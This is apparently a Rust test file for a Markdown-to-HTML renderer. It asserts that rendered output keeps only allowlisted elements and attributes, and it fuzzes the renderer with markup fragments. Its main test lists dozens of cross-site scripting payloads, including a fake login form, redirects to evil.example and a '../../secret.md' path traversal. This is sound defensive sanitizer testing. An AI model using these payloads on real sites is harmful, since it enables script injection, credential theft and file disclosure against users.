//! Whatever a file contains, the screen is safe from it.

use proptest::prelude::*;
use runbooks::html::{RenderOptions, render};

use crate::tags::{Tag, tags};

/// Every attribute that may reach the screen, with the elements that may carry it.
const ATTRIBUTES: &[(&str, &[&str])] = &[
    ("aria-label", &["input"]),
    ("class", &[]),
    ("colspan", &["td", "th"]),
    ("data-runbook", &["a"]),
    ("data-step", &["li"]),
    ("href", &["a"]),
    ("id", &[]),
    ("open", &["details"]),
    ("rel", &["a"]),
    ("rowspan", &["td", "th"]),
    ("start", &["ol"]),
    ("type", &["input"]),
];

/// What is wrong with the HTML of a text.
fn faults(text: &str) -> Vec<Tag> {
    let html = render(text, &RenderOptions { path: "a/b.md" });
    tags(&html).into_iter().filter(|tag| !is_safe(tag)).collect()
}

fn is_safe(tag: &Tag) -> bool {
    let may_carry = |attribute: &str| {
        let rule = ATTRIBUTES.iter().find(|(name, _)| *name == attribute);
        rule.is_some_and(|(_, elements)| elements.is_empty() || elements.contains(&tag.name.as_str()))
    };
    let href = tag.attribute("href").unwrap_or("#").to_lowercase();
    let is_outside = ["http://", "https://", "http:", "https:", "mailto:", "tel:"].iter().any(|s| href.starts_with(s));
    let is_element = !matches!(
        tag.name.as_str(),
        "script"
            | "style"
            | "iframe"
            | "object"
            | "embed"
            | "form"
            | "img"
            | "svg"
            | "math"
            | "link"
            | "meta"
            | "base"
            | "button"
    );
    is_element
        && tag.attributes.iter().all(|(name, _)| may_carry(name))
        && (href.starts_with('#') || (is_outside && tag.attribute("class") == Some("outside")))
        && (tag.name != "input" || tag.attribute("type") == Some("checkbox"))
        && (tag.name != "a" || tag.attribute("rel") == Some("noopener noreferrer"))
        && tag
            .attribute("data-runbook")
            .is_none_or(|path| !path.split('/').any(|part| part == "..") && !path.starts_with('/'))
}

#[test]
fn no_trick_of_the_corpus_gets_through() {
    for text in [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "![x](x\"onerror=\"alert(1))",
        "![x\"><script>alert(1)</script>](x)",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<iframe src=javascript:alert(1)></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=https://evil.example><input name=password type=password><button>Log in</button></form>",
        "<input type=\"password\" autofocus onfocus=alert(1)>",
        "<body onload=alert(1)>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>*{background:url(https://evil.example)}</style>",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "<div id=app class=\"modal stop\">x</div>",
        "<li class=step data-step=\"never-listed-1\">x</li>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"  jAvAsCrIpT:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=https://evil.example>x</a>",
        "<a\nhref='https://evil.example'\n>x</a>",
        "<div>\n<a\nhref='https://evil.example'\n>x</a>\n</div>",
        "<div><p title='<a href=https://evil.example>'></div>",
        "<div>\n<img '><a href=\"https://evil.example\">\n</div>",
        "<div>\n<img x\"=\" <a href=https://evil.example> \">\n</div>",
        "<div>\n<!-- <a --><a href=https://evil.example>x</a>\n</div>",
        "<a target=_blank rel=opener href=\"https://example.com\">x</a>",
        "<a data-runbook=\"../../secret.md\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#x0A;script:alert(1))",
        "[x](&#x6a;avascript:alert(1))",
        "[x](\u{1}javascript:alert(1))",
        "[x](vbscript:x)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](\\\\evil.example\\share.md)",
        "[x](a%5c..%5c..%5cb.md)",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "[x](https://e.example \"onmouseover=alert(1) x='\")",
        "# <img src=x onerror=alert(1)>",
        "- [ ] \"><script>alert(1)</script>",
        "- [ ] x\" onclick=\"alert(1)",
        "```\"><script>alert(1)</script>\nx\n```",
        "[^\"><script>alert(1)</script>]: x\n\n[^\"><script>alert(1)</script>]",
        "---\ntitle: <script>alert(1)</script>\n---\nx",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<textarea></textarea><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp><plaintext><script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php <script>alert(1)</script> ?>",
        "<details ontoggle=alert(1) open><summary>x</summary></details>",
        "<video><source onerror=alert(1)></video>",
        "<a href=\"tel:1\" ping=https://evil.example>x</a>",
        "{{< ref \"javascript:alert(1)\" >}} [x]({{< ref \"javascript:alert(1)\" >}})",
    ] {
        assert_eq!(faults(text), [], "{text}");
    }
}

#[test]
fn what_a_script_says_is_not_shown_either() {
    let html = render("before\n\n<script>\nsteal()\n</script>\n\nafter", &RenderOptions { path: "a.md" });
    insta::assert_snapshot!(html.trim(), @r##"
    <p>before</p>

    <p>after</p>
    "##);
}

/// Pieces that mean something to Markdown, to HTML, or to one that mistakes itself for the other.
fn pieces() -> impl Strategy<Value = String> {
    let pieces = prop_oneof![
        4 => proptest::sample::select(vec![
            "<script>", "</script>", "<img ", "<a ", "</a>", "<input ", "<svg>", "<style>", "<div>\n", "</div>\n", "<!--", "-->",
            "src=x", "href=", "javascript:", "https://e.example", "onerror=alert(1)", "\"", "'", ">", "<", "=", " ", "\n", "\n\n",
            "[x](", ")", "![", "](", "# ", "- [ ] ", "> ", "`", "```", "|", "[^1]", "[^1]: ", "&lt;", "&#106;", "\\", "/", "<p title=",
        ]).prop_map(str::to_owned),
        1 => any::<String>(),
        1 => "\\PC{0,8}",
    ];
    proptest::collection::vec(pieces, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]
    #[test]
    fn no_text_makes_unsafe_html(text in pieces()) {
        prop_assert_eq!(faults(&text), vec![]);
    }
}
